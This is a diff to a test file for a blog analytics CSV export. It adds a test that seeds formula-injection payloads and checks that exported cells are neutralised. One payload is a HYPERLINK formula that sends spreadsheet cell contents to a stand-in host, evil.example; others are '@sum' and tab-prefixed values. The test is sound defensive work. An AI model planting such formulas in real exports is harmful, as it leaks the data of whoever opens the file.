@@ -107,13 +107,34 @@ describe('the Analytics screen', () => {
     expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="analytics-pages-\d{4}-\d{2}-\d{2}-to-\d{4}-\d{2}-\d{2}\.csv"$/);
     expect(await res.text()).toBe(
       [
-        'Page,Page views,Page views (previous period),Page views (change),Conversions on the page,Conversions on the page (previous period),Conversions on the page (change)',
-        '/time-poor-ceo,80,40,up 100%,0,0,no change',
+        '"Page","Page views","Page views (previous period)","Page views (change)","Conversions on the page","Conversions on the page (previous period)","Conversions on the page (change)"',
+        '"/time-poor-ceo","80","40","up 100%","0","0","no change"',
         '',
       ].join('\r\n'),
     );
     const cta = await (await get(links.find((l) => l.includes('/cta.csv'))!)).text();
-    expect(cta.split('\r\n')[1]).toBe("Booking calendar,Let's Have a Natter,Section “hero”,4,0,new");
+    expect(cta.split('\r\n')[1]).toBe('"Booking calendar","Let\'s Have a Natter","Section “hero”","4","0","new"');
+  });
+
+  it('defuses every cell a spreadsheet could run as a formula, a minus and a digit included', async () => {
+    const day = addDays(today, -1);
+    const evil = '-1+HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
+    await seed([
+      ['cta', day, `booking\tcalendar\t${evil}\thero`, 'conversions', 3],
+      ['source', day, '-1+hyperlink(1)', 'visitors', 2],
+      ['source', day, '\tcmd', 'visitors', 1],
+      ['campaign', day, '@sum(1)', 'visitors', 1],
+    ]);
+    const csv = async (table: string) => (await (await get(`/blog/manage/analytics/${table}.csv?range=7d`)).text()).split('\r\n');
+    const cta = await csv('cta');
+    expect(cta[1]).toBe(`"Booking calendar","'${evil.replace(/"/g, '""')}","Section “hero”","3","0","new"`);
+    const sources = await csv('sources');
+    expect(sources[1]!.startsWith(`"'-1+hyperlink(1)","2",`)).toBe(true);
+    expect(sources[2]!.startsWith(`"'\tcmd","1",`)).toBe(true);
+    expect((await csv('campaigns'))[1]!.startsWith(`"'@sum(1)",`)).toBe(true);
+    for (const line of [...cta, ...sources].filter(Boolean)) {
+      for (const cell of line.match(/"(?:[^"]|"")*"/g)!) expect(cell, line).not.toMatch(/^"[=+\-@\t\r]/);
+    }
   });
 
   it('refuses the screen and the CSV without a session', async () => {
